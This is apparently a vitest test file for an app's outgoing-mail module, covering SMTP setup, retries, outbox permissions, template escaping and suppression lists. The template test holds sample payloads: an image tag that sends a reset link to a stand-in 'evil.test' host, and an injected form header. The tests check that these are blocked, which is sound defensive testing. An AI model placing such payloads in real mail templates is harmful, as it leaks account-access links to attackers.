import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import type { DbActor } from '../../../platform/server/db/database.ts';
import { eventually } from '../../../platform/testing/clock/waiting.ts';
import { type MailServerUnderTest, mailServer } from '../../../platform/testing/mail-server.ts';
import { staffWith } from '../../../platform/testing/people/staff-with.ts';
import { type Caller, fewest, type TestServer, testServer } from '../../../platform/testing/server.ts';
import { wrapped } from '../mail/envelope.server.ts';
import { lookOf } from '../mail-shell/sender-look.server.ts';
import { notify, sendMail } from '../public.server.ts';

let app: TestServer;
let admin: Caller;
let post: MailServerUnderTest;
let system: DbActor;

beforeAll(async () => {
  post = await mailServer({ name: 'ordo', password: 'mail-secret' });
  app = await testServer();
  admin = await app.as('admin@demo.test');
  const [{ id }] = await app.sql("update tenant set is_development = true where subdomain = 'demo' returning id");
  system = { tenantId: id, userId: null, name: 'Test', sessionId: null, requestId: 'test', ip: null };
});
afterAll(async () => {
  await app.close();
  await post.close();
});
beforeEach(async () => {
  await app.sql('delete from message');
  await app.sql('delete from message_event');
  await app.sql('delete from mail_suppression');
  await admin.delete('/company/configurations?key=smtp');
  post.reset();
});

const setServer = (more: object = {}) =>
  admin.post('/company/configurations', {
    key: 'smtp',
    text_value: JSON.stringify({ host: '127.0.0.1', port: post.port, user: 'ordo', pass: 'mail-secret', ...more }),
  });
const write = (more: object = {}) =>
  admin.post('/communication', { to: 'ana@example.test', subject: 'Hola', html: '<p>Ñandú &amp; co</p>', ...more });
const statusOf = async (id: number): Promise<string> => (await admin.get(`/communication/${id}`)).data.status;

test('without a mail server mails are kept and shown, and go as soon as one is set', async () => {
  const made = await write();
  expect(made.status).toBe(201);
  expect(made.data).toMatchObject({ status: 'held', to: ['ana@example.test'], event: 'communication.sent' });
  expect((await admin.get('/communication/summary')).data).toMatchObject({ has_mail_server: false, held: 1 });
  await setServer();
  await eventually(async () => expect(await statusOf(made.data.id)).toBe('sent'));
  expect(post.received[0]?.text).toContain('=C3=91and=C3=BA & co');
  expect((await admin.get('/communication/summary')).data).toMatchObject({ has_mail_server: true, held: 0 });
  const shown = await admin.get('/company/configurations/smtp');
  expect(JSON.stringify(shown.body)).not.toContain('mail-secret');
});

test('a wrong password of the mail server is a failed try, and the test mail says what the server said', async () => {
  await setServer({ pass: 'wrong' });
  expect((await admin.post('/communication/test-mail', { to: 'me@example.test' })).data).toMatchObject({
    sent: false,
    answer: expect.stringMatching(/535|wrong password/i),
  });
  await setServer();
  expect((await admin.post('/communication/test-mail', { to: 'me@example.test' })).data.sent).toBe(true);
  expect(post.received.at(-1)?.to).toEqual(['me@example.test']);
});

test('a mail server inside a private network belongs into the environment', async () => {
  await app.sql("update tenant set is_development = false where subdomain = 'demo'");
  await setServer();
  const { data } = await admin.post('/communication/test-mail', { to: 'me@example.test' });
  expect(data).toEqual({ sent: false, answer: '127.0.0.1 is inside a private network' });
  await app.sql("update tenant set is_development = true where subdomain = 'demo'");
});

test('a failed mail is sent again, a waiting one cancelled; anything else is refused in words', async () => {
  const held = (await write()).data.id;
  expect((await admin.post(`/communication/${held}/retry`)).body.code).toBe('message_not_failed');
  expect((await admin.post(`/communication/${held}/cancel`)).data.status).toBe('cancelled');
  expect((await admin.post(`/communication/${held}/cancel`)).body).toMatchObject({
    code: 'message_under_way',
    message: 'Only pending messages can be cancelled.',
  });
  const failed = (await write()).data.id;
  await app.sql("update message set status = 'failed', attempts = 6 where id = $1", [failed]);
  expect((await admin.get('/communication', { filters: { status: 'failed' } })).data).toMatchObject([{ id: failed }]);
  expect((await admin.post(`/communication/${failed}/retry`)).data).toMatchObject({ status: 'held', attempts: 0 });
  expect((await admin.post('/communication/999999/retry')).status).toBe(404);
});

test('20 people who retry one mail at once put it back once', async () => {
  const { id } = (await write()).data;
  await app.sql("update message set status = 'failed' where id = $1", [id]);
  // Without a mail server it waits: no worker fails it again in between.
  const answers = await Promise.all(Array.from({ length: 20 }, () => admin.post(`/communication/${id}/retry`)));
  expect(answers.filter(({ status }) => status === 200)).toHaveLength(1);
  expect(await statusOf(id)).toBe('held');
});

test('the outbox is searched and filtered in two statements', async () => {
  await write({ subject: 'Estado de cuenta', owner: { type: 'customer', id: 7 } });
  await write({ to: 'bob@example.test' });
  const found = await fewest(() => admin.get('/communication', { q: 'cuenta' }));
  expect(found.data).toHaveLength(1);
  // Its words are looked up first.
  expect(found.statements).toBe(3);
  expect((await admin.get('/communication', { filters: { to: 'BOB@example.test' } })).success.total).toBe(1);
  expect((await admin.get('/communication', { filters: { owner_type: 'customer', owner_id: 7 } })).success.total).toBe(
    1,
  );
  expect((await admin.get('/communication', { filters: { colour: 'red' } })).status).toBe(422);
  const officer = await app.as('officer@demo.test');
  expect((await officer.get('/communication')).status).toBe(403);
  expect((await (await app.as('admin@beta.test')).get('/communication')).success.total).toBe(0);
});

test('nobody reads the link that opens an account', async () => {
  const secret = 'https://ordo.test/reset-password/t0ken';
  const id = await app.ordo.database.write(system, (tx) =>
    sendMail(tx, {
      to: 'ana@example.test',
      event: 'user.password_reset',
      kind: 'password_reset',
      language: 'en',
      values: { name: 'Ana', company: 'Northstar', link: secret },
    }),
  );
  const { data } = await admin.get(`/communication/${id}`);
  expect(data).toMatchObject({ is_content_hidden: true, html: null, text: null });
  expect(JSON.stringify(data)).not.toContain('t0ken');
});

test('what a webhook carried, and a scheduled mail to others, is read by administrators alone', async () => {
  const { caller, email } = await staffWith(app, ['view.communications_management', 'view_all.order'], 'all');
  const kept = async (channel: string, to: string, owner: string | null): Promise<number> => {
    const [row] = await app.sql(
      `insert into message (tenant_id, channel, "to", subject, html, text, event, status, payload, owner_type, owner_id)
        values ($1, $2, array[$3], 'Kept', 'LIMIT-4777', 'LIMIT-4777', 'schedule.mail', 'sent', '{"limit": "LIMIT-4777"}', $4, 1)
        returning id::int`,
      [system.tenantId, channel, to, owner],
    );
    return row.id;
  };
  const ids = [
    await kept('webhook', 'https://hooks.example.test', null),
    await kept('email', 'boss@example.test', 'email_schedule'),
    await kept('email', email, 'email_schedule'),
  ];
  const told = async (who: Caller) =>
    Promise.all(
      ids.map(async (id) => JSON.stringify((await who.get(`/communication/${id}`)).data).includes('LIMIT-4777')),
    );
  expect(await told(caller)).toEqual([false, false, true]);
  expect(await told(admin)).toEqual([true, true, true]);
  // Nor is it searched: what is hidden cannot be guessed.
  expect((await caller.get('/communication', { q: 'LIMIT-4777' })).data).toEqual([]);
});

test('an event in the company’s own words, in the language of the reader, every value escaped', async () => {
  const { data: template } = await admin.post('/communication-template', {
    name: 'Invitation',
    subject: 'Welcome {{name}} {{link}}',
    html: '<p>{{name}}, <a href="{{link}}">start</a></p>',
    subject_es: 'Bienvenido {{name}}',
    html_es: '<p>{{name}}, <a href="{{link}}">empiece</a></p>',
  });
  const change = { event: 'registration.approved', template_id: template.id };
  expect((await admin.put('/communication/settings', { events: [change] })).status).toBe(200);
  const admit = (language: 'en' | 'es') =>
    app.ordo.database.write(system, (tx) =>
      sendMail(tx, {
        to: 'ana@example.test',
        event: 'registration.approved',
        kind: 'registration_approved',
        language,
        values: { name: 'Ana <b>', company: 'Northstar', link: 'https://x.test/?a=1&b=2' },
      }),
    );
  await admit('en');
  await admit('es');
  expect(await app.sql('select subject, html from message order by id')).toEqual([
    {
      // The outbox shows subjects to people who may not have the link.
      subject: 'Welcome Ana <b>',
      html: '<p>Ana &lt;b&gt;, <a href="https://x.test/?a&#x3D;1&amp;b&#x3D;2">start</a></p>',
    },
    {
      // The page behind the link speaks the language of its mail.
      subject: 'Bienvenido Ana <b>',
      html: '<p>Ana &lt;b&gt;, <a href="https://x.test/?a&#x3D;1&amp;b&#x3D;2&amp;lang&#x3D;es">empiece</a></p>',
    },
  ]);
  expect((await admin.delete(`/communication-template/${template.id}`)).status).toBe(409);
});

test('what lets somebody in has the product’s words, whatever template is or was stored, and nothing of the company around it', async () => {
  const { data: template } = await admin.post('/communication-template', {
    name: 'Taker',
    subject: 'Reset {{link}}',
    html: '<img src="https://evil.test/p?u={{link}}">',
  });
  for (const event of [
    'user.password_reset',
    'user.invited',
    'user.locked',
    'login.new_device',
    'registration.verify',
    'registration.invited',
    'order.sign_link',
  ]) {
    const refused = await admin.put('/communication/settings', { events: [{ event, template_id: template.id }] });
    expect(refused.status, event).toBe(422);
    expect(refused.body.errors?.['events.0.template_id']?.[0]).toContain('Ordo’s own text');
    // As a company may have stored it before.
    await app.sql(
      `insert into message_event (tenant_id, event, channels, template_id) values ($1, $2, '{email}', $3)
        on conflict (tenant_id, event) do update set template_id = excluded.template_id`,
      [system.tenantId, event, template.id],
    );
  }
  const link = 'https://ordo.test/sign/t0ken';
  const values = { name: 'Ana', company: 'Northstar', reference: 'MNT-1', link };
  for (const [event, kind] of [
    ['user.password_reset', 'password_reset'],
    ['order.sign_link', 'sign_link'],
  ] as const) {
    const id = await app.ordo.database.write(system, (tx) =>
      sendMail(tx, { to: 'ana@example.test', event, kind, language: 'en', values }),
    );
    const [mail] = await app.sql('select subject, html from message where id = $1', [id]);
    expect(mail.subject).not.toContain('t0ken');
    expect(mail.html).not.toContain('evil.test');
    expect(mail.html).toContain(`<a class="button" href="${link}">`);
    const parts = {
      look: lookOf({
        ...{ company: 'Northstar & Co', parts: null, logo: null, facts: ['Kingston'] },
        ...{ background_color: '' },
      }),
      logo: null,
      header: '<form action="http://evil.test"><textarea name=t>',
      footer: 'x',
    };
    const secret = wrapped(mail.html, event, parts);
    expect(secret).not.toMatch(/evil|<td[^>]*>x</);
    expect(secret).toContain('Northstar &amp; Co</strong><br>Kingston');
    expect(secret).toMatch(/<a style="[^"]+" href="https:\/\/ordo\.test\/sign\/t0ken">/);
    const open = wrapped('<p>Hello</p>', 'feedback.requested', parts);
    expect(open).toContain('<p>Hello</p></td>');
    expect(open).toMatch(/<td[^>]*>x<\/td>/);
    expect(open).not.toContain('Kingston');
  }
  const settings = (await admin.get('/communication/settings')).data;
  expect(settings.find(({ event }: { event: string }) => event === 'user.locked').template_id).toBeNull();
});

test('a template that cannot be filled in is refused where it is written', async () => {
  const answer = await admin.post('/communication-template', { name: 'Broken', subject: 'x', html: '{{#if}' });
  expect(answer.status).toBe(422);
  expect(answer.body.errors?.html?.[0]).toMatch(/^The template has an error/);
});

test('an event that is not told by the bell rings no bell', async () => {
  const tell = () =>
    app.ordo.database.write(system, (tx) =>
      notify(tx, {
        permission: 'view.order',
        event: 'order.completed',
        name: 'DEL-1',
        message: 'Done',
        module: 'activities',
        recordId: null,
      }),
    );
  expect(await tell()).toBeGreaterThan(0);
  await admin.put('/communication/settings', { events: [{ event: 'order.completed', channels: ['webhook'] }] });
  expect(await tell()).toBe(0);
});

test('events are switched off per channel, security mails stay on', async () => {
  const off = { event: 'communication.sent', active: false };
  await admin.put('/communication/settings', { events: [off] });
  expect((await admin.get('/communication/settings')).data).toContainEqual(expect.objectContaining(off));
  await app.ordo.database.write(system, async (tx) => {
    const mail = { to: 'a@b.test', subject: 'x', html: 'x', text: 'x' };
    expect(await sendMail(tx, { ...mail, event: 'communication.sent' })).toBeNull();
    expect(await sendMail(tx, { ...mail, event: 'schedule.mail' })).not.toBeNull();
  });
  for (const change of [
    { event: 'user.invited', active: false },
    { event: 'user.invited', channels: [] },
    { event: 'order.created', channels: ['email'] },
    { event: 'no.such', active: true },
  ]) {
    expect((await admin.put('/communication/settings', { events: [change] })).status).toBe(422);
  }
});

test('an address that was closed is opened again', async () => {
  await app.sql(
    `insert into mail_suppression (tenant_id, address, reason) values ($1, 'gone@example.test', 'hard_bounce')`,
    [system.tenantId],
  );
  const [row] = (await admin.get('/communication/suppression', { q: 'Gone@' })).data;
  expect((await admin.delete(`/communication/suppression/${row.id}`)).status).toBe(200);
  expect((await admin.get('/communication/suppression')).success.total).toBe(0);
});

test('an address that somebody closed gets no mail; twice is refused, and so is who may not change communications', async () => {
  const closed = await admin.post('/communication/suppression', {
    address: 'Stop@Example.test',
    reason: 'Asked to stop',
  });
  expect([closed.status, closed.data]).toEqual([
    201,
    expect.objectContaining({ address: 'stop@example.test', reason: 'Asked to stop' }),
  ]);
  const again = await admin.post('/communication/suppression', { address: 'stop@example.test', reason: 'Again' });
  expect([again.status, again.body.errors]).toEqual([422, { address: ['This value is already used.'] }]);
  expect((await admin.post('/communication/suppression', { address: 'x@example.test', reason: '' })).status).toBe(422);
  const officer = await app.as('officer@demo.test');
  expect((await officer.post('/communication/suppression', { address: 'y@example.test', reason: 'No' })).status).toBe(
    403,
  );
  await admin.delete(`/communication/suppression/${closed.data.id}`);
});
